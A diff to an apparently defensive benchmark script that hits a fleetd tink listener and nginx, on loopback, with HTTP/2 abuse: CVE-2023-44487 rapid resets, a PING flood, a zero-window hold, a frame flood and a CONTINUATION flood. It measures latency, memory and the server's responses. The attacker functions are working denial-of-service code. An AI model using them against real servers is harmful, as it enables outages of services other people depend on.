@@ -1,39 +1,75 @@
 """
-HTTP/2 abuse against the tink listener (issue 17, item 7): four rapid-reset
-attackers (CVE-2023-44487) and one PING flood that never reads its ACKs,
-against C{twistd -n fleetd} and then against nginx C{grpc_pass}, both in
-front of the same grpcio tink-server stand-in (L{fleetd.testing.tinkserver}).
+HTTP/2 abuse against the tink listener (issues 17 and 26), against
+C{twistd -n fleetd} and then against nginx C{grpc_pass}, both in front of
+the same grpcio tink-server stand-in (L{fleetd.testing.tinkserver}).
 
 While the attack runs, a probe asks C{/healthz} on fleetd's admin listener
 (for nginx: a C{/healthz} location served by the same worker) every
 C{--probe-every} seconds over one keep-alive TLS connection, and a real
-grpcio agent calls C{GetAction} every C{--agent-every} seconds. Each
-attacker is a process of its own with a source address of its own
-(127.0.0.2-5; the PING flood 127.0.0.6; the agent and the probe 127.0.0.1),
-sends streams as fast as it can in batches of C{--batch} and opens a new
-connection whenever the server closes its connection. C{--attack headers}
-is the CVE's pattern (HEADERS, RST_STREAM); C{--attack whole} sends a whole
-request first (HEADERS, DATA with the message and END_STREAM, RST_STREAM),
-the worst case for the upstream. The PING flood sends C{--ping-mib} MiB of
-PINGs in all, over as many connections as it takes, with a 4 KiB receive
-buffer and no reads.
+grpcio agent calls C{GetAction} every C{--agent-every} seconds (from
+127.0.0.1, as the probe). Each attacking process has a source address of
+its own and opens a new connection whenever the server closes its
+connection. C{--attack} picks the case:
+
+  - C{headers} and C{whole} (issue 17, item 7): four rapid-reset
+    attackers (CVE-2023-44487, 127.0.0.2-5) and one PING flood that never
+    reads its ACKs (127.0.0.6). The resetters send streams as fast as they
+    can in batches of C{--batch}: C{headers} is the CVE's pattern
+    (HEADERS, RST_STREAM); C{whole} sends a whole request first (HEADERS,
+    DATA with the message and END_STREAM, RST_STREAM), the worst case for
+    the upstream. The PING flood sends C{--ping-mib} MiB of PINGs in all,
+    over as many connections as it takes, with a 4 KiB receive buffer and
+    no reads; before the attack it runs alone, for the RSS it costs.
+  - C{zero-window} (issue 26): one connection (127.0.0.7) that says
+    SETTINGS_INITIAL_WINDOW_SIZE=0, sends C{--zero-window-streams} (60)
+    whole GetAction requests and never a WINDOW_UPDATE, then holds the
+    connection for the run, answering SETTINGS and PINGs: every answer
+    stays queued in the server, with the upstream's credit for it.
+  - C{frame-flood} (issue 26): C{--flood-connections} (4) connections
+    from 127.0.0.8, each with one open stream (HEADERS, no END_STREAM),
+    sending as fast as they can PRIORITY on that stream, WINDOW_UPDATE(1)
+    on the connection, an empty DATA without END_STREAM and a frame of
+    unknown type 0x20, C{--batch} such rounds a write.
+  - C{continuation} (issue 26): C{--continuation-connections} (64)
+    connections from 127.0.0.9 (one process, a thread each), each sending
+    HEADERS without END_HEADERS, then 16 KiB CONTINUATION frames of junk
+    never ending the header block, up to C{--continuation-kib} KiB, then
+    holding the connection open. The default, 1,008 KiB (63 frames), is
+    the most that h2 4.x buffers: it ends a connection whose header block
+    passes 64 frames, its HEADERS counted (C{--continuation-kib 1024} shows
+    that close).
+
+In the three cases of issue 26 the stand-in answers C{GetAction} with a
+realistic 1,668-byte action (L{realisticAction}; with the rapid resets, an
+empty message as before), and the PING flood does not run.
 
 Reported per server: /healthz p50/p99/max and failures, the agent's calls
-(OK, failed, p99), the attackers' connections and streams, the streams the
-upstream saw (its generic handler counts every call it is offered) and per
-attacking connection, PING bytes sent, and the server's RSS before, after
-and at its peak. The server is pinned to CPU 0, everything else to CPU 1.
-Loopback only; every process started is stopped.
+(OK, failed by status, p99, max: from the attack's start to about 1 s
+after its end; C{agent_ok_in_attack}: the calls answered while the
+attackers ran), the attackers' connections (opened,
+refused or cut off in the handshake, closed by the server with the median
+and longest time they lived, still open at the end) and streams, the
+counters of the case (frames written; HEADERS, DATA bytes, RST_STREAMs
+and GOAWAYs by code received), the streams the upstream saw (its generic
+handler counts every call it is offered) and per attacking connection,
+PING bytes sent, and the server's RSS before, after and at its peak
+(C{VmHWM}: since the process started); for fleetd, the abuse events its
+log shows (throttled lines). The server is pinned to CPU 0, everything
+else to CPU 1, the attackers at nice 19. Loopback only; every process
+started is stopped.
 
-    .venv/bin/python bench/h2_abuse.py --seconds 10
+    .venv/bin/python bench/h2_abuse.py --seconds 10 [--attack ATTACK]
 """
 
 from __future__ import annotations
 
 import argparse
+import base64
 import http.client
 import multiprocessing
 import os
+import random
+import re
 import select
 import shutil
 import socket
@@ -42,6 +78,8 @@ import sys
 import tempfile
 import threading
 import time
+from collections import Counter
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
@@ -54,12 +92,29 @@ from bench._fleet import Daemon, makeFleet, procStatus
 from bench.boot_storm import freePort
 from bench.tink_proxy import Nginx
 from fleetd.testing.tinkserver import Script, ScriptHandler
+from fleetd.tink.proto import tink_agent_pb2
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
 METHOD = "/proto.WorkflowService/GetAction"
 REQUEST = b"\x0a\x1152:54:00:12:34:56"
 MESSAGE = b"\x00" + len(REQUEST).to_bytes(4, "big") + REQUEST
+RAPID_RESET = ("headers", "whole")
+ATTACKS = (*RAPID_RESET, "zero-window", "frame-flood", "continuation")
+
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS_FRAME = 0x0, 0x1, 0x2, 0x3, 0x4
+PING, GOAWAY, WINDOW_UPDATE, CONTINUATION, UNKNOWN = 0x6, 0x7, 0x8, 0x9, 0x20
+END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
+INITIAL_WINDOW_SIZE = 0x4
+ERRORS = (
+    "NO_ERROR PROTOCOL_ERROR INTERNAL_ERROR FLOW_CONTROL_ERROR SETTINGS_TIMEOUT "
+    "STREAM_CLOSED FRAME_SIZE_ERROR REFUSED_STREAM CANCEL COMPRESSION_ERROR "
+    "CONNECT_ERROR ENHANCE_YOUR_CALM INADEQUATE_SECURITY HTTP_1_1_REQUIRED"
+).split()
+Frame = tuple[int, int, int, bytes]  # type, flags, stream, payload
+# What a L{FrameReader} counts (GOAWAYs besides, by their codes).
+RECEIVED = ("headers_received", "data_bytes_received", "rst_received")
+EVENT = re.compile(r"\b(tink\.(?:h2|upstream)\.[\w-]+|listen\.connection-refused)")
 
 
 def frame(kind: int, flags: int, sid: int, payload: bytes) -> bytes:
@@ -69,6 +124,67 @@ def frame(kind: int, flags: int, sid: int, payload: bytes) -> bytes:
         + sid.to_bytes(4, "big")
         + payload
     )
+
+
+def realisticAction(size: int = 1668) -> bytes:
+    """
+    What tink-server answers C{GetAction} with for the image2disk action of
+    a Talos install (tink-agent's C{ActionResponse}), padded to exactly
+    C{size} bytes by a machine-config patch in its environment: answers of
+    this size are what a reader that never opens its window leaves queued
+    in the proxy.
+    """
+    filler = base64.b64encode(random.Random(26).randbytes(size)).decode()
+
+    def build(pad: int) -> bytes:
+        data: bytes = tink_agent_pb2.ActionResponse(
+            workflow_id="tink-system/talos-worker-g1-00042",
+            task_id="os-installation",
+            agent_id="52:54:00:12:34:56",
+            action_id="tink-system/talos-worker-g1-00042/os-installation/0",
+            name="stream-talos-image",
+            image="ghcr.io/tinkerbell/actions/image2disk:v1.0.0",
+            timeout=900,
+            volumes=[
+                "/dev:/dev",
+                "/dev/console:/dev/console",
+                "/lib/firmware:/lib/firmware:ro",
+            ],
+            environment=[
+                "DEST_DISK=/dev/nvme0n1",
+                "IMG_URL=https://boot.lolwtf.ca:8080/images/talos/v1.9.5/"
+                "metal-amd64.raw.zst",
+                "COMPRESSED=true",
+                "TALOS_CONFIG_PATCH=" + filler[:pad],
+            ],
+            pid="host",
+        ).SerializeToString()
+        return data
+
+    pad = size - len(build(0))
+    while len(build(pad)) > size:  # the patch's length took a second byte
+        pad -= 1
+    action = build(pad)
+    assert len(action) == size, len(action)
+    return action
+
+
+ACTION = realisticAction()
+
+
+def requestBlock() -> bytes:
+    """The HPACK block of a GetAction request."""
+    block: bytes = hpack.Encoder().encode(
+        [
+            (b":method", b"POST"),
+            (b":scheme", b"https"),
+            (b":path", METHOD.encode()),
+            (b":authority", b"localhost"),
+            (b"te", b"trailers"),
+            (b"content-type", b"application/grpc"),
+        ]
+    )
+    return block
 
 
 def streamFrames(block: bytes, sid: int, whole: bool) -> bytes:
@@ -91,48 +207,189 @@ def connect(port: int, source: str, ca: bytes, rcvbuf: int = 0) -> ssl.SSLSocket
     return context.wrap_socket(raw, server_hostname="localhost")
 
 
+class Tally:
+    """
+    One attacking process's connections, from C{source} for C{seconds}:
+    how many it opened (TLS done), how many attempts failed (refused,
+    cut off in the handshake), and how long each connection the server
+    closed had lived; counters of the attack's own beside. Thread-safe
+    (the CONTINUATION flood runs a thread per connection).
+    """
+
+    def __init__(
+        self,
+        kind: str,
+        port: int,
+        source: str,
+        ca: bytes,
+        seconds: float,
+        counts: tuple[str, ...] = ("streams",),
+    ) -> None:
+        self.kind = kind
+        self.port, self.source, self.ca = port, source, ca
+        self.end = time.monotonic() + seconds
+        self.opened = self.refused = 0
+        self.closedAfter: list[float] = []
+        self.counts: dict[str, int] = dict.fromkeys(counts, 0)
+        self.lock = threading.Lock()
+
+    def running(self) -> bool:
+        return time.monotonic() < self.end
+
+    def remaining(self) -> float:
+        return max(0.0, self.end - time.monotonic())
+
+    def connect(self, rcvbuf: int = 0) -> tuple[ssl.SSLSocket, float] | None:
+        """A new connection and when it was opened, or L{None} (after a
+        short pause) if the server would not have it."""
+        try:
+            sock = connect(self.port, self.source, self.ca, rcvbuf)
+        except OSError:
+            with self.lock:
+                self.refused += 1
+            time.sleep(0.01)
+            return None
+        with self.lock:
+            self.opened += 1
+        return sock, time.monotonic()
+
+    def closed(self, began: float) -> None:
+        """The server closed (or cut off) the connection opened at
+        C{began}; one that ends with the run is not counted."""
+        now = time.monotonic()
+        if now < self.end:
+            with self.lock:
+                self.closedAfter.append(now - began)
+
+    def count(self, name: str, n: int = 1) -> None:
+        with self.lock:
+            self.counts[name] = self.counts.get(name, 0) + n
+
+    def result(self) -> dict[str, Any]:
+        with self.lock:
+            return {
+                "kind": self.kind,
+                "connections": self.opened,
+                "refused": self.refused,
+                "closedAfter": list(self.closedAfter),
+                **self.counts,
+            }
+
+
+class FrameReader:
+    """
+    Splits what the server sends into frames and counts, in a L{Tally},
+    the ones an attack is judged by: response HEADERS, DATA bytes (none
+    may come through a window of 0), RST_STREAM and each GOAWAY's code.
+    """
+
+    def __init__(self, tally: Tally) -> None:
+        self.tally = tally
+        self.buffer = bytearray()
+
+    def feed(self, data: bytes) -> list[Frame]:
+        self.buffer += data
+        frames = []
+        while len(self.buffer) >= 9:
+            size = int.from_bytes(self.buffer[:3], "big")
+            if len(self.buffer) < 9 + size:
+                break
+            kind, flags = self.buffer[3], self.buffer[4]
+            sid = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
+            payload = bytes(self.buffer[9 : 9 + size])
+            del self.buffer[: 9 + size]
+            frames.append((kind, flags, sid, payload))
+            if kind == HEADERS:
+                self.tally.count("headers_received")
+            elif kind == DATA:
+                self.tally.count("data_bytes_received", size)
+            elif kind == RST_STREAM:
+                self.tally.count("rst_received")
+            elif kind == GOAWAY and size >= 8:
+                code = int.from_bytes(payload[4:8], "big")
+                name = ERRORS[code] if code < len(ERRORS) else hex(code)
+                self.tally.count(f"goaway_{name}")
+        return frames
+
+
+def readSome(
+    sock: ssl.SSLSocket, reader: FrameReader, wait: float, answer: bool = True
+) -> list[Frame] | None:
+    """
+    The frames the server sent within C{wait} seconds (L{None}: nothing
+    came), its SETTINGS and PINGs acknowledged as any client does unless
+    not to C{answer} (inside a header block no other frame may be sent).
+    L{EOFError} once it closed the connection.
+    """
+    if not sock.pending() and not select.select([sock], [], [], wait)[0]:
+        return None
+    try:
+        data = sock.recv(65536)
+    except TimeoutError:  # part of a TLS record
+        return []
+    if not data:
+        raise EOFError
+    frames = reader.feed(data)
+    replies = b"".join(
+        frame(kind, ACK, 0, b"" if kind == SETTINGS_FRAME else payload)
+        for kind, flags, _, payload in frames
+        if kind in (SETTINGS_FRAME, PING) and not flags & ACK
+    )
+    if replies and answer:
+        sendUntil(sock, replies, time.monotonic() + 10)
+    return frames
+
+
+def sendUntil(sock: ssl.SSLSocket, data: bytes, end: float) -> bool:
+    """
+    Send all of C{data} unless the run's C{end} (monotonic) comes first
+    (L{False}). The socket's timeout only means the server is not reading
+    now: the same bytes are offered again, as TLS wants.
+    """
+    view = memoryview(data)
+    while view:
+        if time.monotonic() >= end:
+            return False
+        try:
+            sent = sock.send(view)
+        except TimeoutError:
+            continue
+        view = view[sent:]
+    return True
+
+
 def rapidReset(
     port: int, source: str, ca: bytes, seconds: float, whole: bool, batch: int, out: Any
 ) -> None:
     """Reset streams as fast as possible for C{seconds}, reconnecting."""
     os.nice(19)  # the probe and the agent share this CPU: let them run
-    block = hpack.Encoder().encode(
-        [
-            (b":method", b"POST"),
-            (b":scheme", b"https"),
-            (b":path", METHOD.encode()),
-            (b":authority", b"localhost"),
-            (b"te", b"trailers"),
-            (b"content-type", b"application/grpc"),
-        ]
-    )
-    end = time.monotonic() + seconds
-    connections = streams = 0
-    while time.monotonic() < end:
-        try:
-            sock = connect(port, source, ca)
-        except OSError:
-            time.sleep(0.01)
+    block = requestBlock()
+    tally = Tally("reset", port, source, ca, seconds)
+    while tally.running():
+        opened = tally.connect()
+        if opened is None:
             continue
-        connections += 1
+        sock, began = opened
         sid = 1
         try:
             sock.sendall(PREFACE + SETTINGS)
-            while time.monotonic() < end:
+            while tally.running():
                 chunk = b"".join(
                     streamFrames(block, sid + 2 * i, whole) for i in range(batch)
                 )
                 sock.sendall(chunk)
                 sid += 2 * batch
-                streams += batch
+                tally.count("streams", batch)
                 while select.select([sock], [], [], 0)[0]:
                     if not sock.recv(65536):
                         raise EOFError
+        except TimeoutError:
+            pass  # the server stopped reading: give up on this connection
         except (OSError, EOFError):
-            pass
+            tally.closed(began)
         finally:
             sock.close()
-    out.put(("reset", connections, streams))
+    out.put(tally.result())
 
 
 def pingFlood(
@@ -141,26 +398,189 @@ def pingFlood(
     """Send C{total} bytes of PINGs (for at most C{seconds}), reading
     nothing, reconnecting."""
     os.nice(19)
-    chunk = frame(0x6, 0x0, 0, b"12345678") * 4096  # 68 KiB
-    sent = connections = 0
-    deadline = time.monotonic() + seconds
-    while sent < total and time.monotonic() < deadline:
-        try:
-            sock = connect(port, source, ca, rcvbuf=4096)
-        except OSError:
-            time.sleep(0.01)
+    chunk = frame(PING, 0x0, 0, b"12345678") * 4096  # 68 KiB
+    sent = 0
+    tally = Tally("ping", port, source, ca, seconds, ("sent",))
+    while sent < total and tally.running():
+        opened = tally.connect(rcvbuf=4096)
+        if opened is None:
             continue
-        connections += 1
+        sock, began = opened
         try:
             sock.sendall(PREFACE + SETTINGS)
-            while sent < total and time.monotonic() < deadline:
+            while sent < total and tally.running():
                 sock.sendall(chunk)
                 sent += len(chunk)
+        except TimeoutError:
+            pass  # the server stopped reading: give up on this connection
         except OSError:
-            pass
+            tally.closed(began)
         finally:
             sock.close()
-    out.put(("ping", connections, sent))
+    tally.count("sent", sent)
+    out.put(tally.result())
+
+
+def zeroWindow(
+    port: int, source: str, ca: bytes, seconds: float, streams: int, out: Any
+) -> None:
+    """
+    Say SETTINGS_INITIAL_WINDOW_SIZE=0, send C{streams} whole GetAction
+    requests (HEADERS, DATA with the message and END_STREAM) and never send
+    a WINDOW_UPDATE: no answer can leave the server, which holds them (and
+    the upstream's credit for them) while the connection lives. Holds the
+    connection for C{seconds}, reading, and reconnects when it is closed.
+    """
+    os.nice(19)
+    tally = Tally("zero-window", port, source, ca, seconds, ("streams", *RECEIVED))
+    settings = frame(
+        SETTINGS_FRAME, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2, "big") + bytes(4)
+    )
+    block = requestBlock()
+    requests = b"".join(
+        frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, END_STREAM, sid, MESSAGE)
+        for sid in range(1, 2 * streams, 2)
+    )
+    while tally.running():
+        opened = tally.connect()
+        if opened is None:
+            continue
+        sock, began = opened
+        sock.settimeout(0.25)
+        reader = FrameReader(tally)
+        try:
+            if sendUntil(sock, PREFACE + settings + requests, tally.end):
+                tally.count("streams", streams)
+            while tally.running():
+                readSome(sock, reader, min(0.5, tally.remaining()))
+        except (OSError, EOFError):
+            tally.closed(began)
+        finally:
+            sock.close()
+    out.put(tally.result())
+
+
+def floodRound(sid: int) -> bytes:
+    """One round of the frame flood: PRIORITY, WINDOW_UPDATE(1) on the
+    connection, an empty DATA without END_STREAM on the open stream
+    C{sid}, and a frame of an unknown type."""
+    return (
+        frame(PRIORITY, 0, sid, bytes(4) + b"\x0f")
+        + frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big"))
+        + frame(DATA, 0, sid, b"")
+        + frame(UNKNOWN, 0, 0, b"junkjunk")
+    )
+
+
+def frameFlood(
+    port: int, source: str, ca: bytes, seconds: float, batch: int, out: Any
+) -> None:
+    """
+    Open one stream (its HEADERS, no END_STREAM) and send L{floodRound}s
+    on it as fast as possible, C{batch} at a time, for C{seconds}: frames
+    that cost the server parsing and never make a request. A new stream
+    when the server resets the open one; reconnects when it is closed.
+    """
+    os.nice(19)
+    tally = Tally(
+        "frame-flood", port, source, ca, seconds, ("streams", "frames", *RECEIVED)
+    )
+    block = requestBlock()
+    while tally.running():
+        opened = tally.connect()
+        if opened is None:
+            continue
+        sock, began = opened
+        sock.settimeout(0.25)
+        reader = FrameReader(tally)
+        sid = 1
+        try:
+            head = PREFACE + SETTINGS + frame(HEADERS, END_HEADERS, sid, block)
+            if sendUntil(sock, head, tally.end):
+                tally.count("streams")
+            chunk = floodRound(sid) * batch
+            while sendUntil(sock, chunk, tally.end):
+                tally.count("frames", 4 * batch)
+                while (frames := readSome(sock, reader, 0)) is not None:
+                    if any(f[0] == RST_STREAM and f[2] == sid for f in frames):
+                        sid += 2
+                        fresh = frame(HEADERS, END_HEADERS, sid, block)
+                        if not sendUntil(sock, fresh, tally.end):
+                            break
+                        tally.count("streams")
+                        chunk = floodRound(sid) * batch
+        except (OSError, EOFError):
+            tally.closed(began)
+        finally:
+            sock.close()
+    out.put(tally.result())
+
+
+def continuationFlood(
+    port: int,
+    source: str,
+    ca: bytes,
+    seconds: float,
+    connections: int,
+    kib: int,
+    out: Any,
+) -> None:
+    """
+    C{connections} connections at once (a thread each), each sending a
+    request's HEADERS without END_HEADERS, then CONTINUATION frames of
+    16 KiB of junk, never with END_HEADERS, up to C{kib} KiB, then holding
+    the connection open, reading, until the run ends; each reconnects
+    when its connection is closed. The server's SETTINGS are acknowledged
+    before the header block opens (and nothing after: any other frame in
+    a header block is a connection error of the client's own).
+    """
+    os.nice(19)
+    counts = ("streams", "continuation_frames", "filled", *RECEIVED)
+    tally = Tally("continuation", port, source, ca, seconds, counts)
+    junk = frame(CONTINUATION, 0, 1, random.Random(9).randbytes(16384))
+    head = frame(HEADERS, 0, 1, requestBlock())
+    count = max(1, (kib << 10) // 16384)
+
+    def attacker() -> None:
+        while tally.running():
+            opened = tally.connect()
+            if opened is None:
+                continue
+            sock, began = opened
+            sock.settimeout(0.25)
+            reader = FrameReader(tally)
+            try:
+                if not sendUntil(sock, PREFACE + SETTINGS, tally.end):
+                    continue
+                settled = time.monotonic() + 2
+                while time.monotonic() < settled and not any(
+                    kind == SETTINGS_FRAME
+                    for kind, *_ in readSome(sock, reader, 0.25) or ()
+                ):
+                    pass
+                if not sendUntil(sock, head, tally.end):
+                    continue
+                tally.count("streams")
+                for _ in range(count):
+                    if not sendUntil(sock, junk, tally.end):
+                        break
+                    tally.count("continuation_frames")
+                else:
+                    tally.count("filled")  # connections that sent all
+                while tally.running():
+                    wait = min(0.5, tally.remaining())
+                    readSome(sock, reader, wait, answer=False)
+            except (OSError, EOFError):
+                tally.closed(began)
+            finally:
+                sock.close()
+
+    threads = [threading.Thread(target=attacker) for _ in range(connections)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    out.put(tally.result())
 
 
 class Probe(threading.Thread):
@@ -234,6 +654,7 @@ class Agent(threading.Thread):
         )
         self.call = self.channel.unary_unary(METHOD, lambda b: b, lambda b: b)
         self.latencies: list[float] = []
+        self.answered: list[float] = []  # when each call that succeeded ended
         self.failed: dict[str, int] = {}
         self.stopping = threading.Event()
 
@@ -242,7 +663,8 @@ class Agent(threading.Thread):
             began = time.perf_counter()
             try:
                 self.call(REQUEST, timeout=5)
-                self.latencies.append(time.perf_counter() - began)
+                self.answered.append(time.perf_counter())
+                self.latencies.append(self.answered[-1] - began)
             except grpc.RpcError as e:
                 name = e.code().name
                 self.failed[name] = self.failed.get(name, 0) + 1
@@ -265,13 +687,14 @@ class CountingHandler(grpc.GenericRpcHandler):  # type: ignore[misc]
 
 class StandIn:
     """The grpcio tink-server stand-in (L{fleetd.testing.tinkserver}, h2c), answering
-    GetAction with an empty message, with a L{CountingHandler} first."""
+    GetAction with C{reply} (an empty message unless given), with a
+    L{CountingHandler} first."""
 
-    def __init__(self) -> None:
+    def __init__(self, reply: bytes = b"") -> None:
         from concurrent import futures
 
         self.script = Script()
-        self.script.unary["GetAction"] = lambda request, context: b""
+        self.script.unary["GetAction"] = lambda request, context: reply
         self.counter = CountingHandler()
         self.server = grpc.server(futures.ThreadPoolExecutor(max_workers=8))
         self.server.add_generic_rpc_handlers((self.counter, ScriptHandler(self)))
@@ -296,7 +719,8 @@ def pingAlone(
         args=(tinkPort, "127.0.0.6", ca, args.ping_mib << 20, args.seconds, out),
     )
     worker.start()
-    _, connections, sent = out.get(timeout=args.seconds + 60)
+    result = out.get(timeout=args.seconds + 60)
+    connections, sent = result["connections"], result["sent"]
     worker.join(30)
     time.sleep(2)  # connections cut off, buffers freed
     after = procStatus(pid, "VmRSS")
@@ -310,6 +734,58 @@ def pingAlone(
     for key, value in row.items():
         shown = f"{value:.2f}" if isinstance(value, float) else value
         print(f"  {name:7} {key:28} {shown}", flush=True)
+    return row
+
+
+def attackers(
+    tinkPort: int, ca: bytes, args: argparse.Namespace
+) -> list[tuple[Callable[..., None], tuple[Any, ...]]]:
+    """The processes of C{args.attack}: each a target and its arguments
+    (the queue for its L{Tally}'s result goes last)."""
+    seconds = args.seconds
+    if args.attack in RAPID_RESET:
+        whole = args.attack == "whole"
+        jobs: list[tuple[Callable[..., None], tuple[Any, ...]]] = [
+            (rapidReset, (tinkPort, f"127.0.0.{2 + n}", ca, seconds, whole, args.batch))
+            for n in range(4)
+        ]
+        ping = (tinkPort, "127.0.0.6", ca, args.ping_mib << 20, seconds)
+        return [*jobs, (pingFlood, ping)]
+    if args.attack == "zero-window":
+        hold = (tinkPort, "127.0.0.7", ca, seconds, args.zero_window_streams)
+        return [(zeroWindow, hold)]
+    if args.attack == "frame-flood":
+        flood = (tinkPort, "127.0.0.8", ca, seconds, args.batch)
+        return [(frameFlood, flood)] * args.flood_connections
+    junk = (
+        tinkPort,
+        "127.0.0.9",
+        ca,
+        seconds,
+        args.continuation_connections,
+        args.continuation_kib,
+    )
+    return [(continuationFlood, junk)]
+
+
+def attackFigures(results: list[dict[str, Any]]) -> dict[str, Any]:
+    """The attackers' side of the report (not the PING flood's): their
+    connections, how many the server closed and how soon, and the
+    counters of the attack's own."""
+    closedAfter = sorted(t for r in results for t in r["closedAfter"])
+    connections = sum(r["connections"] for r in results)
+    row: dict[str, Any] = {
+        "attack_connections": connections,
+        "attack_refused": sum(r["refused"] for r in results),
+        "attack_closed_by_server": len(closedAfter),
+        "attack_closed_after_p50_ms": percentile(closedAfter, 0.5),
+        "attack_closed_after_max_ms": percentile(closedAfter, 1.0),
+        "attack_held_to_end": connections - len(closedAfter),
+        "attack_streams": sum(r.get("streams", 0) for r in results),
+    }
+    standard = {"kind", "connections", "refused", "closedAfter", "streams"}
+    for key in sorted({k for r in results for k in r} - standard):
+        row[f"attack_{key}"] = sum(r.get(key, 0) for r in results)
     return row
 
 
@@ -334,28 +810,10 @@ def attack(
     agentCalls = len(agent.latencies)
     spawn = multiprocessing.get_context("spawn")  # no fork under grpc's threads
     out: Any = spawn.Queue()
-    whole = args.attack == "whole"
     workers = [
-        spawn.Process(
-            target=rapidReset,
-            args=(
-                tinkPort,
-                f"127.0.0.{2 + n}",
-                ca,
-                args.seconds,
-                whole,
-                args.batch,
-                out,
-            ),
-        )
-        for n in range(4)
+        spawn.Process(target=target, args=(*targetArgs, out))
+        for target, targetArgs in attackers(tinkPort, ca, args)
     ]
-    workers.append(
-        spawn.Process(
-            target=pingFlood,
-            args=(tinkPort, "127.0.0.6", ca, args.ping_mib << 20, args.seconds, out),
-        )
-    )
     spy = None
     if args.py_spy:
         import subprocess
@@ -380,6 +838,7 @@ def attack(
         )
     for worker in workers:
         worker.start()
+    attackBegan = time.perf_counter()
     results = [out.get(timeout=args.seconds + 180) for _ in workers]
     for worker in workers:
         worker.join(30)
@@ -391,9 +850,12 @@ def attack(
     agent.join()
     upstream = counter.calls - callsBefore - (len(agent.latencies) - agentCalls)
     upstream -= sum(agent.failed.values())  # at most: failed calls may count
-    connections = sum(r[1] for r in results if r[0] == "reset")
+    pings = [r for r in results if r["kind"] == "ping"]
+    figures = attackFigures([r for r in results if r["kind"] != "ping"])
+    connections = figures["attack_connections"]
     row = {
         "server": name,
+        "attack": args.attack,
         "quiet_p99_ms": percentile(quietLatencies, 0.99),
         "healthz_p50_ms": percentile(latencies, 0.5),
         "healthz_p99_ms": percentile(latencies, 0.99),
@@ -403,16 +865,20 @@ def attack(
         "agent_ok": len(agent.latencies) - agentCalls,
         "agent_failed": dict(agent.failed),
         "agent_p99_ms": percentile(agent.latencies[agentCalls:], 0.99),
-        "attack_connections": connections,
-        "attack_streams": sum(r[2] for r in results if r[0] == "reset"),
+        "agent_max_ms": percentile(agent.latencies[agentCalls:], 1.0),
+        "agent_ok_in_attack": sum(
+            attackBegan <= t <= attackBegan + args.seconds for t in agent.answered
+        ),
+        **figures,
         "upstream_streams": max(0, upstream),
         "upstream_per_connection": max(0, upstream) / max(1, connections),
-        "ping_connections": sum(r[1] for r in results if r[0] == "ping"),
-        "ping_mib_sent": sum(r[2] for r in results if r[0] == "ping") / (1 << 20),
-        "rss_before_mib": rssBefore / 1024,
-        "rss_after_mib": procStatus(pid, "VmRSS") / 1024,
-        "rss_peak_mib": procStatus(pid, "VmHWM") / 1024,
     }
+    if pings:
+        row["ping_connections"] = sum(r["connections"] for r in pings)
+        row["ping_mib_sent"] = sum(r.get("sent", 0) for r in pings) / (1 << 20)
+    row["rss_before_mib"] = rssBefore / 1024
+    row["rss_after_mib"] = procStatus(pid, "VmRSS") / 1024
+    row["rss_peak_mib"] = procStatus(pid, "VmHWM") / 1024
     for key, value in row.items():
         shown = f"{value:.2f}" if isinstance(value, float) else value
         print(f"  {name:7} {key:28} {shown}", flush=True)
@@ -436,8 +902,14 @@ def nginxConfig(pki: Path, port: int, health: int, upstream: int) -> str:
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
     parser.add_argument("--seconds", type=float, default=10.0)
-    parser.add_argument("--attack", choices=("headers", "whole"), default="whole")
-    parser.add_argument("--batch", type=int, default=100)
+    parser.add_argument("--attack", choices=ATTACKS, default="whole")
+    parser.add_argument(
+        "--batch", type=int, default=100, help="streams (frame-flood: rounds) a write"
+    )
+    parser.add_argument("--zero-window-streams", type=int, default=60)
+    parser.add_argument("--flood-connections", type=int, default=4)
+    parser.add_argument("--continuation-connections", type=int, default=64)
+    parser.add_argument("--continuation-kib", type=int, default=1008)
     parser.add_argument("--ping-mib", type=int, default=16)
     parser.add_argument("--probe-every", type=float, default=0.02)
     parser.add_argument("--agent-every", type=float, default=0.05)
@@ -452,7 +924,8 @@ def main() -> None:
     os.sched_setaffinity(0, {1})
     work = Path(tempfile.mkdtemp(prefix="h2abuse-"))
     vault = Path(tempfile.mkdtemp(prefix="h2abuse-", dir="/dev/shm"))
-    upstream = StandIn()
+    rapid = args.attack in RAPID_RESET
+    upstream = StandIn(b"" if rapid else ACTION)
     counter = upstream.counter
     fleet = makeFleet(
         work / "fleetd",
@@ -467,7 +940,9 @@ def main() -> None:
             daemon = Daemon(fleet, cpus="0")
             daemon.start(waitFor=b"listen.started tink ")
             started.append(daemon)
-            rows.append(pingAlone("fleetd", daemon.ports["tink"], daemon.pid, ca, args))
+            if rapid:
+                tinkPort = daemon.ports["tink"]
+                rows.append(pingAlone("fleetd", tinkPort, daemon.pid, ca, args))
             rows.append(
                 attack(
                     "fleetd",
@@ -479,8 +954,12 @@ def main() -> None:
                     args,
                 )
             )
-            calm = daemon.logText().count("tink.h2.enhance-your-calm")
+            log = daemon.logText()
+            calm = log.count("tink.h2.enhance-your-calm")
             print(f"  fleetd  enhance-your-calm lines (throttled) {calm}")
+            events = Counter(EVENT.findall(log))
+            shown = ", ".join(f"{k} {v}" for k, v in sorted(events.items()))
+            print(f"  fleetd  log events (throttled) {shown or 'none'}", flush=True)
             daemon.stop()
         if "nginx" in servers:
             port, health = freePort(), freePort()
@@ -491,7 +970,8 @@ def main() -> None:
                 port,
             )
             started.append(nginx)
-            rows.append(pingAlone("nginx", port, nginx.pid, ca, args))
+            if rapid:
+                rows.append(pingAlone("nginx", port, nginx.pid, ca, args))
             rows.append(attack("nginx", port, health, nginx.pid, ca, counter, args))
             nginx.stop()
     finally:
